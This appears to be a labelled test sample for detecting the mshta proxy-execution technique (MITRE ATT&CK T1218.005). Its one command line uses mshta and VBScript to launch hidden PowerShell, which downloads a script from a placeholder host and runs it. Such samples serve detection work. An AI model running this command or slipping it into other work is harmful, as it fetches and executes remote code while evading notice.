@rem expect: download-and-run | source: MITRE ATT&CK T1218.005
mshta vbscript:CreateObject("WScript.Shell").Run("powershell -c iex(irm http://files.example.invalid/s)",0)(window.close)
